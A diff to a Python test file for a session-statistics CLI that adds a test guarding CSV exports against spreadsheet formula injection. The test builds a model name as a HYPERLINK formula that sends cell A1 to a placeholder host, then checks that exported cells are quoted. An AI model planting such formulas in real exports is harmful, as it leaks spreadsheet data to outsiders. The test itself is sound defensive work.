@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 from itertools import pairwise
 from pathlib import Path
@@ -156,6 +158,31 @@ def test_statistics_count_and_never_call_the_unknown_nothing(sessile: Command, d
     days = sessile("stats", "daily", "--since", "10y", "--json").json["items"]
     assert sum(row["answers"] for row in days) == document["total"]["answers"]
     assert sessile("stats", "projects", "--csv").out.splitlines()[0].startswith("name,sessions")
+
+
+@pytest.mark.promise("P50")
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
+def test_a_name_is_never_a_formula_in_a_table_for_spreadsheets(sessile: Command, home: Path, start: str) -> None:
+    """A model that is named like a formula gets a quote; numbers stay numbers."""
+    name = f'{start}HYPERLINK("http://x/?"&A1,"click")'
+    with Store(home / ".sessile").create("/work/app", publish=True) as session:
+        usage = {"input": 1, "output": 2, "cost": {"total": -0.5}}
+        session.append_message({"role": "assistant", "content": [], "model": name, "usage": usage})
+        session.append_message(
+            {
+                "role": "assistant",
+                "content": [{"type": "toolCall", "id": "t", "name": name, "arguments": {}}],
+                "model": name,
+            }
+        )
+    for table in ("models", "tools", "projects"):
+        _, *rows = csv.reader(io.StringIO(sessile("stats", table, "--csv").out, newline=""))
+        assert rows
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r"))
+                assert not cell.startswith("-") or float(cell) < 0
+        assert table == "projects" or any(row[0].startswith("'") for row in rows)
 
 
 def test_a_damaged_catalog_is_made_anew(sessile: Command, demo: Path, tmp_path: Path) -> None:
